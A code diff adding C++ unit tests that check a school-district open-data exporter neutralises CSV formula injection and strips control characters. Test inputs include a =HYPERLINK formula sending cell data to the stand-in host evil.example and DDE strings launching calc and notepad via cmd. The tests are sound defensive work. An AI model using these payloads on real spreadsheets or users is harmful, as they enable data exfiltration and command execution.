@@ -381,3 +381,91 @@ TEST_CASE("open_data: each school's elements lie where their spans say, as schoo
     for (const auto& s : sink.spans)
         if (s.path == "data/schools.json") CHECK(schools[s.offset] == '{');
 }
+
+TEST_CASE("open_data: CSV text cells that could start a formula are neutralised; numbers stay numbers",
+          "[open_data]") {
+    auto site = small_site();
+    auto& plan_item = site.district.roadmaps[0].sections[0].items[0];
+    plan_item.title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Подробнее\")";
+    plan_item.result = "+7 (48643) 2-13-74";
+    plan_item.report = "@SUM(1+1)*cmd|' /C calc'!A0";
+    plan_item.responsible = {"-2+3+cmd|' /C calc'!A0"};
+    site.schools[0].short_name = "\t=1+1";
+    site.indicators[0].values[0].note = "=1+1";
+    site.indicators[0].values[0].value = -3.5;  // a number column: negative values stay numbers
+    site.district.documents[0].title = "=cmd|' /C notepad'!'A1'";
+    site.schools[0].results[0].mean = -1.25;  // out of range, but a number: written as one
+    derive::derive_site(site, Date{2024, 11, 1});
+    auto files = view::open_data(site, kContext);
+
+    std::string roadmaps = file_named(files, "data/roadmaps.csv");
+    CHECK(contains(roadmaps, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Подробнее\"\")\","));
+    CHECK(contains(roadmaps, ",\"'+7 (48643) 2-13-74\","));
+    CHECK(contains(roadmaps, ",\"'@SUM(1+1)*cmd|' /C calc'!A0\","));
+    CHECK(contains(roadmaps, ",\"'-2+3+cmd|' /C calc'!A0\","));
+    std::string schools = file_named(files, "data/schools.csv");
+    CHECK(contains(schools, ",\"'\t=1+1\","));
+    std::string indicators = file_named(files, "data/indicators.csv");
+    CHECK(contains(indicators, ",value,2025,-3.5,"));
+    CHECK(contains(indicators, ",\"'=1+1\","));
+    std::string documents = file_named(files, "data/documents.csv");
+    CHECK(contains(documents, ",\"'=cmd|' /C notepad'!'A1'\","));
+    std::string results = file_named(files, "data/results.csv");
+    CHECK(contains(results, ",-1.25,"));
+    CHECK_FALSE(contains(results, "'-1.25"));
+
+    // No cell of any CSV starts with a formula character unless neutralised.
+    for (const auto& file : files) {
+        if (file.path.size() < 4 || file.path.substr(file.path.size() - 4) != ".csv") continue;
+        for (std::size_t at = file.bytes.find("=", 0); at != std::string::npos; at = file.bytes.find("=", at + 1)) {
+            INFO(file.path << " at " << at);
+            CHECK((at == 0 || (file.bytes[at - 1] != ',' && file.bytes[at - 1] != '\n' && file.bytes[at - 1] != '"')));
+        }
+    }
+    // The JSON keeps the text as written: only CSV is read by spreadsheets.
+    CHECK(json_named(files, "data/roadmaps.json")["items"][0]["title"] == plan_item.title);
+}
+
+TEST_CASE("open_data: control characters reach neither CSV nor JSON; line breaks and tabs stay", "[open_data]") {
+    auto site = small_site();
+    auto& plan_item = site.district.roadmaps[0].sections[0].items[0];
+    plan_item.title = std::string("Итоги\x01\x07 года\r\nвторая\tстрока\x1b[31m\x7f") + "\xC2\x85" + "конец";
+    plan_item.report = std::string("\x0b\x0c=1+1");  // controls first, then a formula
+    site.schools[0].name = std::string("Школа") + '\0' + "№ 1";
+    site.district.news[0].body = "Текст\x08 с\x1f управляющими\x0e знаками";
+    derive::derive_site(site, Date{2024, 11, 1});
+    auto files = view::open_data(site, kContext);
+
+    auto has_control = [](const std::string& text) {
+        for (std::size_t i = 0; i < text.size(); ++i) {
+            auto byte = static_cast<unsigned char>(text[i]);
+            if ((byte < 0x20 && byte != '\n' && byte != '\t' && byte != '\r') || byte == 0x7F) return true;
+            if (byte == 0xC2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) < 0xA0) return true;
+        }
+        return false;
+    };
+    for (const auto& file : files) {
+        INFO(file.path);
+        CHECK_FALSE(has_control(file.bytes));
+        // A JSON string holds no control escape but \n and \t.
+        if (file.path.size() > 5 && file.path.substr(file.path.size() - 5) == ".json") {
+            CHECK_FALSE(contains(file.bytes, "\\u00"));
+            CHECK_FALSE(contains(file.bytes, "\\r"));
+            CHECK_FALSE(contains(file.bytes, "\\b"));
+            CHECK_FALSE(contains(file.bytes, "\\f"));
+        }
+    }
+    std::string csv = file_named(files, "data/roadmaps.csv");
+    CHECK(contains(csv, "\"Итоги года\nвторая\tстрока[31mконец\""));
+    CHECK(contains(csv, ",\"'=1+1\","));
+    // Each row still ends with CRLF, and only there: the cell's \r is gone.
+    CHECK_FALSE(contains(csv, "года\r\n"));
+    auto roadmaps = json_named(files, "data/roadmaps.json");
+    CHECK(roadmaps["items"][0]["title"] == "Итоги года\nвторая\tстрока[31mконец");
+    CHECK(json_named(files, "data/schools.json")["schools"][0]["name"] == "Школа№ 1");
+    CHECK(json_named(files, "data/site.json")["news"][0]["body"] == "Текст с управляющими знаками");
+    // Still deterministic.
+    auto again = view::open_data(site, kContext);
+    REQUIRE(again.size() == files.size());
+    for (std::size_t i = 0; i < files.size(); ++i) CHECK(again[i].bytes == files[i].bytes);
+}
